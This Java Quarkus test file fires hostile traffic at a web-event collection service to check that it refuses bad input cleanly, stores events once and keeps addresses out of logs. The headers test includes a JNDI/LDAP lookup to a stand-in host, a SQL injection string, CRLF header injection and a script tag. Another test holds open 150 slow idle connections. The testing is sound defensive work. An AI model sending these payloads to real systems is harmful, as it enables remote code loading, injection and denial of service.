package dev.touchstone.touchpoint.service;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.touchstone.testing.database.PostgresTestResource;
import dev.touchstone.touchpoint.v1.IngestWebEventsRequest;
import dev.touchstone.touchpoint.v1.IngestWebEventsResponse;
import dev.touchstone.touchpoint.v1.Site;
import dev.touchstone.touchpoint.v1.WebEventServiceGrpc;
import io.agroal.api.AgroalDataSource;
import io.grpc.CallOptions;
import io.grpc.MethodDescriptor;
import io.grpc.StatusRuntimeException;
import io.grpc.stub.ClientCalls;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.QuarkusTestProfile;
import io.quarkus.test.junit.TestProfile;
import jakarta.inject.Inject;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Ten thousand payloads that are malformed, hostile or too large: refused with a reason, or stored once. */
@QuarkusTest
@WithTestResource(PostgresTestResource.class)
@WithTestResource(MappingStub.class)
@TestProfile(HostileClientsTest.WithoutLimits.class)
class HostileClientsTest {
    private static final int HTTP_PAYLOADS = 9_600;
    private static final int GRPC_PAYLOADS = 400;
    private static final int SEGMENT_PAYLOADS = 2_000;
    private static final int THREADS = 4;
    /** Below what one connection allows. */
    private static final int GRPC_CALLS_AT_ONCE = 50;

    /** Everything comes from one address and few visitors. */
    public static final class WithoutLimits implements QuarkusTestProfile {
        @Override
        public Map<String, String> getConfigOverrides() {
            return Map.of(
                    "touchpoint.derivation.workers", "0",
                    "touchpoint.remap.enabled", "false",
                    "touchpoint.collector.visitor-rate.events-per-minute", "0",
                    "touchpoint.collector.address-rate.events-per-minute", "0");
        }
    }

    @TestHTTPResource("/")
    URI service;

    @Inject
    AgroalDataSource dataSource;

    private TouchpointClient client;
    private StoredState state;
    private Site site;
    private final LogWatch logs = new LogWatch();

    @BeforeEach
    void begin() {
        client = new TouchpointClient(service);
        state = new StoredState(dataSource);
        state.awaitSchema();
        state.clear();
        state.execute("DELETE FROM site");
        site = new Collector(service, client.channel()).site("acme", "acme.com");
        Logger.getLogger("").addHandler(logs);
    }

    @AfterEach
    void end() {
        Logger.getLogger("").removeHandler(logs);
        client.close();
    }

    @Test
    void whatIsRefusedIsNotStoredAndWhatIsAcknowledgedIsStoredOnce() throws Exception {
        AtomicLong accepted = new AtomicLong();
        Set<String> refused = ConcurrentHashMap.newKeySet();
        Queue<String> wrong = new ConcurrentLinkedQueue<>();
        try (ExecutorService threads = Executors.newFixedThreadPool(THREADS)) {
            for (int thread = 0; thread < THREADS; thread++) {
                int seed = thread;
                threads.execute(() -> send(seed, accepted, refused, wrong));
            }
            threads.shutdown();
            assertThat(threads.awaitTermination(10, TimeUnit.MINUTES)).isTrue();
        }
        assertThat(wrong).isEmpty();
        assertThat(accepted.get()).isPositive().isEqualTo(state.count("web_event"));
        assertThat(refused)
                .hasSizeGreaterThan(100)
                .doesNotContainAnyElementsOf(state.texts("SELECT event_id FROM web_event"));
        assertThat(state.texts("SELECT page_url FROM web_event WHERE page_url LIKE '%" + HostilePayloads.VICTIM + "%'"
                        + " OR referrer_url LIKE '%?%" + HostilePayloads.VICTIM + "%'"))
                .isEmpty();
        assertThat(logs.leaks).isEmpty();
    }

    /** Of these the answer is success in any case; what counts is that no message harms its neighbours. */
    @Test
    void hostileSegmentMessagesAreAnsweredWithoutAnError() throws Exception {
        HostilePayloads payloads = new HostilePayloads(7, site.getWriteKey(), System.currentTimeMillis());
        String key = java.util.Base64.getEncoder()
                .encodeToString((site.getWriteKey() + ":").getBytes(StandardCharsets.UTF_8));
        try (HttpClient http =
                HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build()) {
            for (int i = 0; i < SEGMENT_PAYLOADS; i++) {
                byte[] body = payloads.nextSegment("s-" + i);
                HttpResponse<String> answer = http.send(
                        HttpRequest.newBuilder(service.resolve("/v1/batch"))
                                .header("Authorization", "Basic " + key)
                                .header("User-Agent", Collector.BROWSER)
                                .POST(HttpRequest.BodyPublishers.ofByteArray(body))
                                .build(),
                        HttpResponse.BodyHandlers.ofString());
                assertThat(answer.statusCode())
                        .as(() -> new String(body, StandardCharsets.UTF_8) + answer.body())
                        .isIn(200, 400, 401, 503);
            }
        }
        assertThat(state.count("web_event")).isPositive();
        assertThat(logs.leaks).isEmpty();
    }

    /**
     * The shared gRPC server of this Quarkus version never answers a call with a message that it cannot decode: the caller's
     * deadline ends it. Other calls on the same connection go on, and nothing of it is stored.
     */
    @Test
    void protobufGarbageIsNotStoredAndTheConnectionGoesOn() throws Exception {
        AtomicLong accepted = new AtomicLong();
        HostilePayloads payloads = new HostilePayloads(99, site.getWriteKey(), System.currentTimeMillis());
        Random random = new Random(99);
        try (ExecutorService threads = Executors.newFixedThreadPool(GRPC_CALLS_AT_ONCE)) {
            for (int i = 0; i < GRPC_PAYLOADS; i++) {
                byte[] good = IngestWebEventsRequest.newBuilder()
                        .addWebEvents(Facts.pageView("v", "g-" + i, Facts.at("09:00"), "https://acme.com/")
                                .setReferrerUrl("https://acme.com/?mailId=" + HostilePayloads.VICTIM))
                        .build()
                        .toByteArray();
                byte[] body = random.nextInt(3) == 0 ? payloads.noise(random.nextInt(500)) : payloads.damaged(good);
                threads.execute(() -> accepted.addAndGet(ingest(body)));
            }
            threads.shutdown();
            assertThat(threads.awaitTermination(5, TimeUnit.MINUTES)).isTrue();
        }
        assertThat(client.ingest(Facts.pageView("v", "last", Facts.at("09:00"), "https://acme.com/")
                                .build())
                        .getAcceptedCount())
                .isEqualTo(1);
        // More, if a deadline ended before the answer to a message that is good in spite of the damage.
        assertThat(state.count("web_event")).isGreaterThan(accepted.get());
        assertThat(logs.leaks).isEmpty();
    }

    /** Together they announce more than the collector holds, and send nothing of it. */
    @Test
    void idleSendersKeepNobodyOutAndAreNotWaitedFor() throws IOException {
        List<Socket> idle = new ArrayList<>();
        try {
            for (int i = 0; i < 150; i++) {
                Socket socket = new Socket(service.getHost(), service.getPort());
                idle.add(socket);
                socket.setSoTimeout(60_000);
                socket.getOutputStream()
                        .write("POST /v1/batch HTTP/1.1\r\nHost: a\r\nContent-Length: 512000\r\n\r\n{"
                                .getBytes(StandardCharsets.ISO_8859_1));
            }
            new Collector(service, client.channel())
                    .post(Collector.batch(site, "v", Collector.page("e", "https://acme.com/")))
                    .then()
                    .statusCode(200);
            for (Socket socket : idle) {
                assertThat(new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1))
                        .startsWith("HTTP/1.1 408 ")
                        .contains("TOO_SLOW");
            }
        } finally {
            for (Socket socket : idle) {
                socket.close();
            }
        }
    }

    @Test
    void headersAreHarmless() throws IOException {
        for (String header : List.of(
                "Cookie: a=b; Touchstone=<script>; =;;;",
                "Cookie: " + "c".repeat(7_000),
                "Origin: https://acme.com\r\nSet-Cookie: x=y",
                "Origin: \u0001\u0002",
                "X-Forwarded-For: " + "1.2.3.4, ".repeat(500),
                "X-Forwarded-For: ' OR 1=1 --",
                "User-Agent: ${jndi:ldap://evil.test/a}",
                "Content-Type: application/json; charset=\"\r\n x",
                "Content-Encoding: gzip",
                "Content-Encoding: br",
                "Authorization: Basic \u00ff\u00fe",
                "Bad Header: x",
                ": x",
                "Content-Length: -1")) {
            String answer = raw("POST /v1/events HTTP/1.1\r\nHost: a\r\nConnection: close\r\n" + header
                    + "\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}");
            assertThat(answer).as(header).doesNotStartWith("HTTP/1.1 5").doesNotContainIgnoringCase("set-cookie");
        }
        assertThat(state.count("web_event")).isZero();
    }

    private void send(int seed, AtomicLong accepted, Set<String> refused, Queue<String> wrong) {
        HostilePayloads payloads = new HostilePayloads(seed, site.getWriteKey(), System.currentTimeMillis());
        try (HttpClient http =
                HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build()) {
            for (int i = 0; i < HTTP_PAYLOADS / THREADS; i++) {
                byte[] body = payloads.next("h-" + seed + "-" + i);
                try {
                    HttpResponse<String> answer = http.send(
                            HttpRequest.newBuilder(service.resolve("/v1/events"))
                                    .header("Content-Type", "application/json")
                                    .header("User-Agent", Collector.BROWSER)
                                    .POST(HttpRequest.BodyPublishers.ofByteArray(body))
                                    .build(),
                            HttpResponse.BodyHandlers.ofString());
                    read(answer, accepted, refused, wrong);
                } catch (IOException e) {
                    // Who sends a megabyte may find the door shut before the end of it.
                    if (body.length < 64 * 1024) {
                        wrong.add("seed " + seed + ", payload " + i + ": " + e);
                    }
                }
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static void read(HttpResponse<String> answer, AtomicLong accepted, Set<String> refused, Queue<String> wrong)
            throws IOException {
        JsonNode json = new ObjectMapper().readTree(answer.body());
        if (answer.statusCode() == 200) {
            accepted.addAndGet(json.get("accepted").longValue());
            json.get("refused").forEach(event -> {
                String id = event.get("id").textValue();
                if (id.startsWith("h-")) {
                    refused.add(id);
                }
            });
        } else if (!(List.of(400, 401, 413, 415, 429, 503).contains(answer.statusCode())
                && json.path("error").has("reason"))) {
            wrong.add(answer.statusCode() + " " + answer.body());
        }
    }

    private long ingest(byte[] body) {
        MethodDescriptor<byte[], IngestWebEventsResponse> method =
                WebEventServiceGrpc.getIngestWebEventsMethod().toBuilder(
                                new Bytes(),
                                WebEventServiceGrpc.getIngestWebEventsMethod().getResponseMarshaller())
                        .build();
        try {
            // One message, and then the end of the stream.
            return ClientCalls.blockingUnaryCall(
                            client.channel(),
                            method.toBuilder()
                                    .setType(MethodDescriptor.MethodType.UNARY)
                                    .build(),
                            CallOptions.DEFAULT.withDeadlineAfter(5, TimeUnit.SECONDS),
                            body)
                    .getAcceptedCount();
        } catch (StatusRuntimeException refused) {
            return 0;
        }
    }

    private String raw(String request) throws IOException {
        try (Socket socket = new Socket(service.getHost(), service.getPort())) {
            socket.setSoTimeout(30_000);
            socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
            socket.getOutputStream().flush();
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
        }
    }

    /** What is sent as it is. */
    private static final class Bytes implements MethodDescriptor.Marshaller<byte[]> {
        @Override
        public InputStream stream(byte[] value) {
            return new ByteArrayInputStream(value);
        }

        @Override
        public byte[] parse(InputStream stream) {
            try {
                return stream.readAllBytes();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }

    /** Finds addresses in what is logged. */
    private static final class LogWatch extends Handler {
        private final Queue<String> leaks = new ConcurrentLinkedQueue<>();

        @Override
        public void publish(LogRecord logged) {
            String line = logged.getMessage()
                    + ' '
                    + java.util.Arrays.toString(logged.getParameters())
                    + ' '
                    + logged.getThrown();
            if (line.contains("example.com")) {
                leaks.add(line);
            }
        }

        @Override
        public void flush() {
            // Nothing is kept back.
        }

        @Override
        public void close() {
            // Nothing is open.
        }
    }
}
